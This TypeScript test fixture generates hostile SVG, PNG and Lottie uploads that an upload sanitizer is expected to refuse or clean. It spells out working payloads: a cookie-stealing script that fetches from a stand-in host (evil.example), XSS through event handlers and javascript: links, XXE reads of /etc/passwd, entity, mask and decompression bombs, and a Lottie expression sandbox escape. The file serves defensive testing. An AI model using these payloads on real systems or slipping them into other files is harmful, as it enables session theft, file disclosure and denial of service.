import { deflateSync } from 'node:zlib';
import type { UploadKind } from '../../shared/uploads/formats.ts';
import { header, layer, lottie, png, pngOf, svg } from './files.ts';

/**
 * A file that somebody may upload to do harm or by mistake, and what becomes of it: refused, or made
 * harmless.
 */
export type HostileFile = {
  name: string;
  kind: UploadKind;
  bytes: () => Buffer;
  outcome: 'refused' | 'cleaned';
};

const text = (content: string) => () => Buffer.from(content);
const inside =
  (content: string, attributes = '') =>
  () =>
    svg(`${content}<circle r="9"/>`, attributes);
const repeated = (part: string, times: number): string => part.repeat(times);

const entityBomb = `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${[...'bcdefghij']
  .map((name, i) => `<!ENTITY ${name} "${repeated(`&${'abcdefghij'[i]};`, 10)}">`)
  .join('')}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`;

const useBomb = `<defs><g id="u0"><rect width="9" height="9"/></g>${Array.from(
  { length: 20 },
  (_, i) => `<g id="u${i + 1}">${repeated(`<use href="#u${i}"/>`, 10)}</g>`,
).join('')}</defs><use href="#u20"/>`;

/** Hidden from librsvg, which knows no `@media`; a browser would draw ten million rectangles. */
const maskBomb = `<style>.b{display:none}@media all{.b{display:inline}}</style>${Array.from(
  { length: 7 },
  (_, i) =>
    `<mask id="m${i}">${repeated(`<rect width="100" height="100" fill="#fff" mask="url(#m${i - 1})"/>`, 10)}</mask>`,
).join('')}<g class="b"><rect width="99" height="99" mask="url(#m6)"/></g>`;

const script = '<script>fetch("http://evil.example/"+document.cookie)</script>';
const xhtml = 'xmlns="http://www.w3.org/1999/xhtml"';
const rasterBomb = deflateSync(Buffer.alloc(1000)).toString('base64');

/** A filter of so many steps, each of which keeps its result. */
const filter = (steps: number) =>
  `<filter id="f" x="0" y="0" width="1" height="1">${Array.from({ length: steps }, (_, i) => `<feOffset dx="1" in="SourceGraphic" result="r${i}"/>`).join('')}</filter><rect width="99" height="99" filter="url(#f)"/>`;

/** An image inside a drawing. */
const embedded = (bytes: Buffer) =>
  `<image width="9" height="9" href="data:image/png;base64,${bytes.toString('base64')}"/>`;
const withPage = (bytes: Buffer) => Buffer.concat([bytes, Buffer.from(`<html>${script}</html>`)]);
const zeros = (bytes: number) => deflateSync(Buffer.alloc(bytes));
/** A PNG whose header says this size, with these pixels. */
const pngWith =
  ([width, height]: [number, number], pixels: () => Buffer) =>
  () =>
    pngOf([
      ['IHDR', header(width, height)],
      ['IDAT', pixels()],
      ['IEND', Buffer.alloc(0)],
    ]);
const manyEmbedded = (count: number, width: number, height: number) => () =>
  inside(Array.from({ length: count }, (_, i) => embedded(png({ width: width - i, height }))).join(''))();

/** A drawing that uses an entity with this value. */
const withEntity = (value: string) => `<!DOCTYPE svg [<!ENTITY x '${value}'>]>${svg('&x;<circle r="9"/>')}`;

const SVG_CLEANED: [string, () => Buffer][] = [
  ['script element', inside(script)],
  ['script with a prefix', inside('<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>')],
  ['script of XHTML', inside(`<script ${xhtml}>alert(1)</script>`)],
  ['script from elsewhere', inside('<script href="http://evil.example/x.js"/>')],
  ['script in upper case', inside('<SCRIPT>alert(1)</SCRIPT>')],
  ['script in a CDATA section', inside('<script><![CDATA[alert(1)]]></script>')],
  ['onload of the root', inside('', 'onload="alert(1)"')],
  ['onclick of a shape', inside('<rect onclick="alert(1)" width="9" height="9"/>')],
  ['onbegin of an animation', inside('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>')],
  ['event handler in mixed case', inside('<rect OnMouseOver="alert(1)"/>')],
  ['event handler with a character reference', inside('<rect onfocus="&#97;lert(1)" tabindex="1"/>')],
  [
    'foreignObject with a form',
    inside(`<foreignObject><form ${xhtml} action="//evil.example"><input/></form></foreignObject>`),
  ],
  ['foreignObject with an iframe', inside(`<foreignObject><iframe ${xhtml} srcdoc="x"/></foreignObject>`)],
  ['iframe of XHTML', inside(`<iframe ${xhtml} src="http://evil.example/"/>`)],
  ['object and embed of XHTML', inside(`<object ${xhtml} data="x"/><embed ${xhtml} src="x"/>`)],
  ['link with a javascript: address', inside('<a href="javascript:alert(1)"><text>x</text></a>')],
  [
    'link with a hidden javascript: address',
    inside('<a xlink:href="java&#9;script:alert(1)"><text>x</text></a>'),
  ],
  [
    'link with a data: page',
    inside('<a href="data:text/html,&lt;script>alert(1)&lt;/script>"><text>x</text></a>'),
  ],
  ['link to elsewhere', inside('<a href="https://evil.example/"><text>x</text></a>')],
  ['image from elsewhere', inside('<image href="http://evil.example/x.png" width="9" height="9"/>')],
  ['image with a relative address', inside('<image href="../secret.png" width="9" height="9"/>')],
  ['image of a file', inside('<image xlink:href="file:///etc/passwd" width="9" height="9"/>')],
  ['image in a data: address', inside(`<image href="data:image/png;base64,${rasterBomb}"/>`)],
  ['image in a data: address with a page behind its end', inside(embedded(withPage(png())))],
  [
    'image in a data: address with a script in its text',
    inside(embedded(png({ chunks: [['iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${script}`)]] }))),
  ],
  ['image in a data: address that is a page', inside(embedded(Buffer.from(`<html>${script}</html>`)))],
  ['image in a data: address of 24 million pixels', inside(embedded(png({ width: 6000, height: 4000 })))],
  [
    'image in a data: address whose text inflates to 400 MB',
    () => inside(embedded(png({ chunks: [['iTXt', compressedText()]] })))(),
  ],
  ['ten images in data: addresses of 24 million pixels', manyEmbedded(10, 6000, 4000)],
  ['ten images in data: addresses of 2.3 million pixels', manyEmbedded(10, 1510, 1500)],
  ['twenty images in data: addresses of a million pixels', manyEmbedded(20, 1024, 1024)],
  [
    'an entity in the namespace',
    text('<!DOCTYPE svg [<!ENTITY n "http://www.w3.org/2000/svg">]><svg xmlns="&n;"><circle r="9"/></svg>'),
  ],
  ['script in an entity', text(withEntity(script))],
  ['script in the characters of an entity', text(withEntity(script.replaceAll('<', '&#60;')))],
  ['script that begins in an entity', text(withEntity('<scr').replace('&x;', '&x;ipt>alert(1)</script>'))],
  ['event handler in an entity', text(withEntity('<rect onclick="alert(1)" width="9" height="9"/>'))],
  [
    'SVG in a data: address',
    inside(`<image href="data:image/svg+xml;base64,${svg(script).toString('base64')}"/>`),
  ],
  ['use of another document', inside('<use href="http://evil.example/x.svg#a"/>')],
  ['use of a data: document', inside('<use href="data:image/svg+xml,x#a"/>')],
  ['feImage from elsewhere', inside('<filter id="f"><feImage href="http://evil.example/x"/></filter>')],
  ['text path from elsewhere', inside('<text><textPath href="http://evil.example/x#p">x</textPath></text>')],
  [
    'animation of href',
    inside('<a id="a"><text>x</text><animate attributeName="href" values="javascript:alert(1)"/></a>'),
  ],
  ['set of an event handler', inside('<set attributeName="onclick" to="alert(1)"/>')],
  ['CSS import', inside('<style>@import url(http://evil.example/x.css);.a{fill:red}</style>')],
  ['CSS import as text', inside('<style>@import "http://evil.example/x.css" screen;</style>')],
  ['CSS import with an escape', inside('<style>@\\69mport "http://evil.example/x.css";</style>')],
  [
    'CSS font from elsewhere',
    inside('<style>@font-face{font-family:x;src:url(http://evil.example/x.woff)}</style>'),
  ],
  ['CSS url() in a rule', inside('<style>.a{fill:url(http://evil.example/x#y)}</style>')],
  ['CSS url() with an escape', inside('<style>.a{background:u\\72l(http://evil.example/x)}</style>')],
  [
    'CSS url() in a variable',
    inside('<style>.a{--x:url(http://evil.example/x);background:var(--x)}</style>'),
  ],
  ['CSS image-set()', inside('<style>.a{background:image-set("http://evil.example/x" 1x)}</style>')],
  [
    'CSS url() in a nested rule',
    inside('<style>@media all{.a{&amp; .b{background:url(//evil.example)}}}</style>'),
  ],
  ['CSS url() after a broken rule', inside('<style>}}} .a{;;background:url(http://evil.example)</style>')],
  ['CSS url() behind a comment', inside('<style>.a{background:/**/url(http://evil.example)}</style>')],
  ['CSS expression()', inside('<rect style="width:expression(alert(1));behavior:url(#x)"/>')],
  [
    'url() in a style attribute',
    inside('<rect style="fill:url(\'http://evil.example/x\')" width="9" height="9"/>'),
  ],
  [
    'url() in a presentation attribute',
    inside('<rect filter="url(http://evil.example/x#f)" width="9" height="9"/>'),
  ],
  [
    'url() behind a harmless one',
    inside('<rect fill="url(#g) url(http://evil.example/x)" width="9" height="9"/>'),
  ],
  [
    'stylesheet instruction',
    text(`<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.css"?>${svg()}`),
  ],
  ['xml:base', inside('<g xml:base="http://evil.example/"><use href="#a"/></g>')],
  ['external document type', text(`<!DOCTYPE svg SYSTEM "http://evil.example/x.dtd">${svg()}`)],
  ['declared entities without use', text(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg()}`)],
  ['markup in a comment', inside('<!--><script>alert(1)</script>-->')],
  ['metadata with personal data', inside('<metadata><name>Grace</name></metadata>')],
  ['two million characters of one path', inside(`<path d="${repeated('M1 1L2 2', 250_000)}"/>`)],
  ['a page behind the end tag, as a comment', text(`${svg()}<!-- <html><script>alert(1)</script> -->`)],
  [
    'ten thousand elements with styles',
    inside(repeated('<path d="M1 1L2 2" style="fill:#fff" class="a"/>', 9990)),
  ],
  ['200 KB of CSS', inside(`<style>${repeated('.a{fill:red}', 17_000)}</style>`)],
  [
    'a hundred filters of a hundred results',
    inside(`${repeated('<g filter="url(#f)">', 90)}${filter(100)}${repeated('</g>', 90)}`),
  ],
  ['a filter of a hundred results', inside(filter(100))],
  ['20,000 characters of text', inside(`<text>${repeated('<tspan>Wide</tspan>', 5000)}</text>`)],
  ['a mask in an animation', inside('<style>@keyframes k{from{mask:url(//evil.example#m)}}</style>')],
  ['a transform with an address', inside('<rect transform="url(http://evil.example/x)"/>')],
  ['a style in a CDATA section', inside('<style><![CDATA[.a{fill:url(//evil.example/x)}]]></style>')],
  ['audio and video of XHTML', inside(`<video ${xhtml} src="http://evil.example/x" autoplay=""/>`)],
  [
    'handler element',
    inside('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
  ],
  [
    '100,000 x 100,000',
    text(svg().toString().replace('width="100" height="100"', 'width="100000" height="100000"')),
  ],
];

const SVG_REFUSED: [string, () => Buffer][] = [
  ['nothing', text('')],
  ['white space', text(' \n\t ')],
  ['no XML', text('logo')],
  ['HTML', text('<html><body><script>alert(1)</script></body></html>')],
  ['another root', text('<math xmlns="http://www.w3.org/1998/Math/MathML"/>')],
  ['an svg of no namespace', text('<svg><circle r="9"/></svg>')],
  ['truncated', () => svg().subarray(0, 90)],
  ['an unclosed attribute', text('<svg xmlns="http://www.w3.org/2000/svg" width="')],
  ['two roots', text(`${svg()}${svg()}`)],
  ['text behind the end tag', text(`${svg()}<script>alert(1)</script>`)],
  ['an entity bomb', text(entityBomb)],
  [
    'an external entity',
    text(
      '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
    ),
  ],
  ['UTF-16', () => Buffer.from(`\uFEFF${svg()}`, 'utf16le')],
  ['bytes that are no UTF-8', () => Buffer.concat([svg(), Buffer.from([0xff, 0xfe, 0x00])])],
  ['a NUL character', text('<svg xmlns="http://www.w3.org/2000/svg"><text>\u0000</text></svg>')],
  ['compressed (svgz)', () => Buffer.from('1f8b0800000000000003', 'hex')],
  ['200,000 elements', inside(repeated('<g/>', 200_000))],
  ['10,000 levels', inside(repeated('<g>', 10_000) + repeated('</g>', 10_000))],
  ['50,000 attributes', inside('', Array.from({ length: 50_000 }, (_, i) => `a${i}=""`).join(' '))],
  ['a bomb of use elements', inside(useBomb)],
  ['a filter of 200 results', inside(filter(200))],
  ['a filter of 1,500 results', inside(filter(1500))],
  ['two million characters of text', inside(`<text>${repeated('Wide', 500_000)}</text>`)],
  ['eight megabytes once it is written anew', inside(`<desc>${repeated('>', 2_000_000)}</desc>`)],
  ['100,000 x 1', text(svg().toString().replace('width="100" height="100"', 'width="100000" height="1"'))],
  ['a bomb of masks', inside(maskBomb)],
  ['a prefix', text('<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:circle r="9"/></s:svg>')],
  ['two million characters of CSS', inside(`<style>${repeated('.a{fill:red}', 160_000)}</style>`)],
  ['no size', text('<svg xmlns="http://www.w3.org/2000/svg" width="0" height="0"/>')],
];

const PNG_CLEANED: [string, () => Buffer][] = [
  ['metadata: text', () => png({ chunks: [['tEXt', Buffer.from('Author\0Grace Hopper')]] })],
  [
    'metadata: compressed text',
    () =>
      png({
        chunks: [['zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(100_000))])]],
      }),
  ],
  [
    'metadata: script in iTXt',
    () => png({ chunks: [['iTXt', Buffer.from(`XML:com.adobe.xmp\0\0\0\0\0${script}`)]] }),
  ],
  [
    'metadata: EXIF with a place',
    () => png({ chunks: [['eXIf', Buffer.from('4d4d002a000000080000', 'hex')]] }),
  ],
  ['an unknown chunk', () => png({ chunks: [['evIL', Buffer.from(script)]] })],
  ['a page behind the end', () => Buffer.concat([png(), Buffer.from(`<html>${script}</html>`)])],
  [
    'an archive behind the end',
    () => Buffer.concat([png(), Buffer.from('504b0304', 'hex'), Buffer.alloc(999)]),
  ],
  ['animated', () => animated()],
  ['pixels that inflate to 400 MB, for an image of 64', pngWith([8, 8], () => bomb())],
  ['24 million pixels of one colour', () => png({ width: 6000, height: 4000 })],
  ['24 million pixels of one colour, interlaced', () => plain(6000, 4000, { interlaced: true })],
  ['12 million pixels of 16 bits, interlaced', () => plain(4000, 3000, { depth: 16, interlaced: true })],
  ['metadata: text that inflates to 400 MB', () => png({ chunks: [['iTXt', compressedText()]] })],
  ['metadata: colours that inflate to 400 MB', () => png({ chunks: [['iCCP', profileBomb()]] })],
];

const PNG_REFUSED: [string, () => Buffer][] = [
  ['nothing', text('')],
  ['24 million pixels of 16 bits, interlaced', () => plain(6000, 4000, { depth: 16, interlaced: true })],
  ['24,000,000 x 1', () => png({ width: 24_000_000, height: 1 })],
  ['1 x 24,000,000', () => png({ width: 1, height: 24_000_000 })],
  ['the signature only', () => png().subarray(0, 8)],
  ['truncated in the header', () => png().subarray(0, 20)],
  ['truncated in the pixels', () => png({ width: 500, height: 500 }).subarray(0, 300)],
  ['truncated before the end', () => png().subarray(0, -12)],
  ['the wrong signature', () => Buffer.concat([Buffer.from('89504e470d0a1a0b', 'hex'), png().subarray(8)])],
  ['a JPEG', () => Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex')],
  ['a GIF with a script', text(`GIF89a/*${script}*/=1;`)],
  ['a page', text(`<html>${script}</html>`)],
  ['100,000 x 100,000 in the header', pngWith([100_000, 100_000], () => zeros(99))],
  ['the largest header there is', pngWith([0xffffffff, 0xffffffff], () => zeros(99))],
  ['no pixels in the header', pngWith([0, 0], () => zeros(9))],
  [
    'no pixels',
    () =>
      pngOf([
        ['IHDR', header(8, 8)],
        ['IEND', Buffer.alloc(0)],
      ]),
  ],
  [
    'two headers',
    () =>
      pngOf([
        ['IHDR', header(8, 8)],
        ['IHDR', header(9, 9)],
        ['IDAT', deflateSync(Buffer.alloc(264))],
        ['IEND', Buffer.alloc(0)],
      ]),
  ],
  ['a wrong checksum', () => flipped(png(), 20)],
  [
    'a chunk longer than the file',
    () => Buffer.concat([png().subarray(0, 33), Buffer.from('7fffffff49444154', 'hex')]),
  ],
  ['pixels that are no deflate stream', pngWith([8, 8], () => Buffer.from('garbage'))],
  ['fewer pixels than the header says', pngWith([2000, 2000], () => zeros(99))],
];

/** A property with an expression: players evaluate the text that they make of it. */
const expression = (x: unknown) => () => {
  const [zero, full] = [
    { a: 0, k: [0, 0, 0] },
    { a: 0, k: [100, 100, 100] },
  ];
  const ks = { o: { a: 0, k: 100, x }, r: { a: 0, k: 0 }, p: zero, a: zero, s: full };
  return lottie({ layers: [layer({ ddd: 0, ind: 1, sr: 1, ao: 0, ks })] });
};
/** Past the names that players hide from expressions. */
const run = '[].constructor.constructor("document.title = 1")(); var $bm_rt = 100';

const font = (members: Record<string, unknown>) => () =>
  lottie({ fonts: { list: [{ fName: 'x', fFamily: 'x', fStyle: '', ...members }] } });

const LOTTIE_CLEANED: [string, () => Buffer][] = [
  ['a stylesheet for a font', font({ fOrigin: 't', origin: 2, fPath: 'https://evil.example/x.css' })],
  ['another stylesheet for a font', font({ fOrigin: 'g', origin: 1, fPath: 'https://evil.example/x.css' })],
  ['the file of a font', font({ fOrigin: 'p', origin: 3, fPath: "https://evil.example/x.woff');}" })],
  ['the address of a font in a list', font({ origin: 1, fPath: ['https://evil.example/x.css'] })],
  ['the name of an element', () => lottie({ layers: [layer({ tg: 'iframe' })] })],
  ['an id and a class of the page', () => lottie({ layers: [layer({ ln: 'location', cl: 'overlay' })] })],
  [
    'an address in place of a colour',
    () => lottie({ layers: [layer({ ty: 1, sw: 9, sh: 9, sc: 'url(https://evil.example/x.svg#a)' })] }),
  ],
  ['who made it with what', () => lottie({ meta: { a: 'Grace', g: 'https://evil.example/' } })],
];

const LOTTIE_REFUSED: [string, () => Buffer][] = [
  ['nothing', text('')],
  ['no JSON', text('{"v":')],
  ['an array', text('[]')],
  ['another object', text('{"name":"x"}')],
  ['no layers', () => lottie({ layers: [] })],
  ['an expression', expression(run)],
  ['an expression in a list', expression([run])],
  ['an expression in a list of lists', expression([[[run]]])],
  ['an expression in pieces', expression(run.split(';'))],
  [
    'an expression of a slot',
    () =>
      lottie({
        slots: { s: { p: { a: 0, k: 100, x: [run] } } },
        layers: [layer({ ks: { o: { sid: 's' } } })],
      }),
  ],
  [
    'an expression in an effect',
    () => lottie({ layers: [{ ty: 4, ef: [{ ef: [{ v: { x: 'alert(1)' } }] }] }] }),
  ],
  ['an image from elsewhere', () => lottie({ assets: [{ id: 'i', u: 'http://evil.example/', p: 'x.png' }] })],
  [
    'an image with an address',
    () => lottie({ assets: [{ id: 'i', u: '', p: 'https://evil.example/x.png', e: 1 }] }),
  ],
  [
    'an SVG in a data: address',
    () =>
      lottie({
        assets: [{ id: 'i', u: '', p: `data:image/svg+xml;base64,${svg(script).toString('base64')}` }],
      }),
  ],
  [
    'an image of a slot from elsewhere',
    () =>
      lottie({
        assets: [{ id: 'i', sid: 's', w: 9, h: 9 }],
        slots: { s: { p: { id: 'i', w: 9, h: 9, u: 'https://evil.example/', p: 'x.png' } } },
        layers: [layer({ ty: 2, refId: 'i' })],
      }),
  ],
  ['sound from elsewhere', () => lottie({ assets: [{ id: 'i', u: 'https://evil.example/', p: 'x.mp3' }] })],
  ['data from elsewhere', () => lottie({ assets: [{ id: 'i', t: 3, p: 'https://evil.example/x.json' }] })],
  [
    'an image whose address is a list',
    () => lottie({ assets: [{ id: 'i', p: ['https://evil.example/x.png'] }] }),
  ],
  ['a font with a stylesheet for a name', font({ fFamily: 'x;} @import "https://evil.example/x.css";' })],
  ['a __proto__ key', text(lottie().toString().replace('{', '{"__proto__":{"x":1},'))],
  [
    '100,000 levels',
    () =>
      Buffer.from(
        lottie()
          .toString()
          .replace('"layers":', `"deep":${repeated('[', 100_000)}${repeated(']', 100_000)},"layers":`),
      ),
  ],
  ['numbers that are four times as long once they are written anew', longNumbers],
  ['a million pixels wide', () => lottie({ w: 1_000_000 })],
];

function longNumbers(): Buffer {
  return Buffer.from(
    lottie({ z: 0 })
      .toString()
      .replace('"z":0', `"z":[${repeated('1e20,', 205_000)}0]`),
  );
}

/** An APNG of two frames. */
export function animated(): Buffer {
  const control = Buffer.alloc(8);
  control.writeUInt32BE(2, 0);
  const frame = Buffer.alloc(26);
  frame.writeUInt32BE(8, 4);
  frame.writeUInt32BE(8, 8);
  return png({
    chunks: [
      ['acTL', control],
      ['fcTL', frame],
    ],
  });
}

function flipped(bytes: Buffer, at: number): Buffer {
  bytes.writeUInt8(bytes.readUInt8(at) ^ 0xff, at);
  return bytes;
}

/** A PNG of nothing but transparency. */
function plain(width: number, height: number, { depth = 8, interlaced = false }): Buffer {
  const head = header(width, height);
  head.set([depth, 6, 0, 0, interlaced ? 1 : 0], 8);
  // The passes of an interlaced image have two rows for each that it has, at most.
  const bytes = ((width * 4 * depth) / 8) * height + 2 * height + 64;
  return pngOf([
    ['IHDR', head],
    ['IDAT', deflateSync(Buffer.alloc(bytes))],
    ['IEND', Buffer.alloc(0)],
  ]);
}

const compressedText = () => Buffer.concat([Buffer.from('XML:com.adobe.xmp\0\x01\0\0\0'), bomb()]);
const profileBomb = () => Buffer.concat([Buffer.from('p\0\0'), bomb()]);

/** Not half a megabyte that inflates to 400. */
function bomb(): Buffer {
  bombed ??= deflateSync(Buffer.alloc(400_000_000));
  return bombed;
}
let bombed: Buffer | undefined;

const listed = (kind: UploadKind, outcome: HostileFile['outcome'], files: [string, () => Buffer][]) =>
  files.map(([name, bytes]): HostileFile => ({ name: `${kind}: ${name}`, kind, bytes, outcome }));

export const HOSTILE_FILES: readonly HostileFile[] = [
  ...listed('svg', 'cleaned', SVG_CLEANED),
  ...listed('svg', 'refused', SVG_REFUSED),
  ...listed('png', 'cleaned', PNG_CLEANED),
  ...listed('png', 'refused', PNG_REFUSED),
  ...listed('lottie', 'cleaned', LOTTIE_CLEANED),
  ...listed('lottie', 'refused', LOTTIE_REFUSED),
];
